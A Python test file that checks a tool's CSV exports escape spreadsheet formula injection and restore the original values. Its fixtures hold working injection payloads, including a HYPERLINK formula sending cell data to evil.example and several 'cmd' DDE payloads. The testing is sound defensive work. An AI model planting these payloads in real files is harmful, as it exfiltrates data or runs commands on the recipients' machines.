"""Spreadsheet formula injection in every CSV Winnow writes (ADR 153).

Sample ids, model and rater names come from scraped posts, folder names and raters; a
cell such as ``=HYPERLINK("http://evil/?"&A1)`` runs when a curator opens the export in a
spreadsheet. Each exported text cell that a spreadsheet would evaluate starts with ``'``;
numbers stay numbers, and :func:`core.csv_cells.plain_cell` gives back the original.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.analysis.export import table_csv
from core.analysis.results import Table
from core.csv_cells import TRIGGERS, plain_cell, safe_cell
from core.metrics.base import MetricResult
from core.metrics.store import export_csv, save_results

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "rating"))
from rating_helpers import build_project, make_session, simple_answer  # noqa: E402

from core.rating.merge import merge_files  # noqa: E402
from core.rating.results import export_results  # noqa: E402
from core.rating.session_file import RatingSession  # noqa: E402

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _evaluable(cell: str) -> bool:
    """Would a spreadsheet take this cell as a formula (a non-numeric trigger start)?"""
    if not cell or cell[0] not in TRIGGERS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert plain_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-05", "-inf", "nan", "12", "", "ok",
                                   "'quoted", "a=b", " =x"])
def test_numbers_and_plain_text_unchanged(value: str) -> None:
    assert safe_cell(value) == value
    assert plain_cell(value) == value


@pytest.mark.parametrize("value", [-0.5, 3, None, 1.5e300])
def test_non_text_unchanged(value: object) -> None:
    assert safe_cell(value) == value


@given(st.text(max_size=12))
def test_round_trip_is_exact(value: str) -> None:
    escaped = safe_cell(value)
    assert plain_cell(escaped) == value
    assert not _evaluable(escaped)


def test_analysis_table_csv_neutralised() -> None:
    table = Table("t", "T", ["model", "=score"], [[name, -0.25] for name in HOSTILE])
    rows = _cells(table_csv(table))
    assert rows[0] == ["model", "'=score"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-0.25" for r in rows[1:])


def test_metrics_export_neutralised(tmp_path: Path) -> None:
    project = build_project(tmp_path / "p.winnow", n_samples=1, models=(HOSTILE[1], "m"))
    try:
        save_results(project, "colour_shift", 1, {}, "h", [
            ("s000", HOSTILE[1], "x", MetricResult.ok(-1.5), 0.1),
            ("s000", "m", "x", MetricResult.fail("-error: =bad"), 0.1)])
        export_csv(project, tmp_path / "m.csv")
    finally:
        project.close()
    rows = _cells((tmp_path / "m.csv").read_text(encoding="utf-8"))
    assert not [c for r in rows for c in r if _evaluable(c)]
    by_model = {plain_cell(r[1]): r for r in rows[1:]}
    assert by_model[HOSTILE[1]][1] == "'" + HOSTILE[1]
    assert by_model[HOSTILE[1]][3] == "-1.5"  # a number stays a number
    assert plain_cell(by_model["m"][5]) == "-error: =bad"


def test_session_results_neutralised(tmp_path: Path) -> None:
    """A ranking session over models with hostile names, rated and merged: the results CSV
    that `winnow stats` reads has no evaluable cell, and every name is recoverable."""
    models = (HOSTILE[0], HOSTILE[2], "plain")
    project = build_project(tmp_path / "p.winnow", n_samples=2, models=models)
    try:
        files = make_session(project, tmp_path / "out", "ranking", models=models,
                             sample_ids=("s000", "s001"), raters=1)
        for path in files:
            s = RatingSession.open(path)
            s.set_rater("@rater")
            while (t := s.next_task()) is not None:
                s.submit(t.task_id, simple_answer(t), time_ms=1500)
            s.close()
        merge_files(project, files)
        export_results(project, "ranking", tmp_path / "r.csv")
    finally:
        project.close()
    rows = _cells((tmp_path / "r.csv").read_text(encoding="utf-8"))
    assert rows[0] == ["rater", "item", "model", "rank"]
    assert not [c for r in rows for c in r if _evaluable(c)]
    assert {plain_cell(r[2]) for r in rows[1:]} == set(models)
    assert {plain_cell(r[0]) for r in rows[1:]} == {"@rater"}


def test_stats_reads_back_the_original_names(tmp_path: Path) -> None:
    from core.stats.tables import read_rankings

    out = tmp_path / "r.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["rater", "item", "model", "rank"])
        for k, model in enumerate((HOSTILE[0], "plain")):
            w.writerow([safe_cell(v) for v in ("@rater", "s1", model, str(k + 1))])
    assert set(read_rankings(out).models) == {HOSTILE[0], "plain"}


def test_analysis_csv_cell_with_carriage_return_stays_one_cell() -> None:
    """A bare CR inside a cell was written unquoted (the writer ended rows with LF only),
    so every CSV reader split the row in two."""
    table = Table("t", "T", ["model", "n"], [["line one\rline two", 3], ["b", 4]])
    rows = _cells(table_csv(table))
    assert rows == [["model", "n"], ["line one\rline two", "3"], ["b", "4"]]
